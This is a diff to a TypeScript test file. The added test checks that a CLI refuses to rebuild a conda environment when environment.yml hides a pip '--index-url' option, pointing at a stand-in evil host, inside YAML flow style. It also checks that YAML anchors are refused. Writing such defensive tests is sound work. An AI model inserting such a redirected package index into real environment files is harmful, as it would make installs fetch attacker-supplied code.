@@ -5,7 +5,11 @@
 // scalar, a comment after "pip:", a merge key; and the normal shape of a conda export passes.
 import { strict as assert } from 'node:assert';
 import { parseAllDocuments } from 'yaml';
-import { checkRebuild, planRebuild, type EnvCapture } from '../../src/app/environment';
+import { mkdtempSync, rmSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { checkRebuild, planRebuild, writeCapture, type EnvCapture } from '../../src/app/environment';
+import { runCli } from '../support/cli';
 import { ASKABLE_PROBLEMS, checkCondaEnvironment } from '../../src/core/guards/environment';
 import { checkEnvironmentYml, readEnvironmentYaml } from '../../src/remote/guards/environment-yml';
 
@@ -157,5 +161,25 @@ describe('environment.yml read as YAML', () => {
     const anchored = checkRebuild({ ...c, environmentYml: 'a: &x [1]\n' }, { envName: 'moved', allowPipOptions: true });
     assert.deepEqual(anchored.problems.map((p) => p.kind), ['unsupportedYaml']);
     assert.ok(!planRebuild({ ...c, environmentYml: 'a: &x [1]\n' }, { envName: 'moved', allowPipOptions: true, targetDriver: { version: null, maxCuda: null } }).ok);
+  });
+
+  it('the CLI refuses a capture whose environment.yml hides a pip option in flow style, before connecting, naming the line', async function () {
+    this.timeout(30000);
+    const dir = mkdtempSync(join(tmpdir(), 'gpr-envyml-'));
+    try {
+      const c: EnvCapture = { capturedAt: 1, source: 'a', pythonVersion: '3.10.13', condaEnv: 'x', torch: null, torchCuda: null, driverVersion: null, driverMaxCuda: null, gpus: [], requirements: 'numpy==1.26.4\n', environmentYml: `name: x\ndependencies:\n  - python=3.10\n  - {pip: [--index-url ${EVIL}]}\n` };
+      await writeCapture(dir, c);
+      // Port 1: nothing listens there; the refusal comes first.
+      const r = runCli(['env', 'rebuild', 'ssh://u@127.0.0.1:1', '--from', dir, '--name', 'moved'], { env: { GPU_RENT_HOME: join(dir, '.home') } });
+      assert.equal(r.code, 2, r.stderr);
+      assert.match(r.stderr, /environment\.yml line 4 is a pip option \(--index-url http:\/\/evil\.example\.invalid\/simple\)/);
+      await writeCapture(dir, { ...c, environmentYml: 'dependencies: &d\n  - numpy\n' });
+      const anchored = runCli(['env', 'rebuild', 'ssh://u@127.0.0.1:1', '--from', dir, '--name', 'moved', '--allow-pip-options'], { env: { GPU_RENT_HOME: join(dir, '.home') } });
+      assert.equal(anchored.code, 2, anchored.stderr);
+      assert.match(anchored.stderr, /cannot be checked: an anchor \(&d\)/);
+      assert.match(anchored.stderr, /--allow-pip-options does not pass the other lines/);
+    } finally {
+      rmSync(dir, { recursive: true, force: true });
+    }
   });
 });
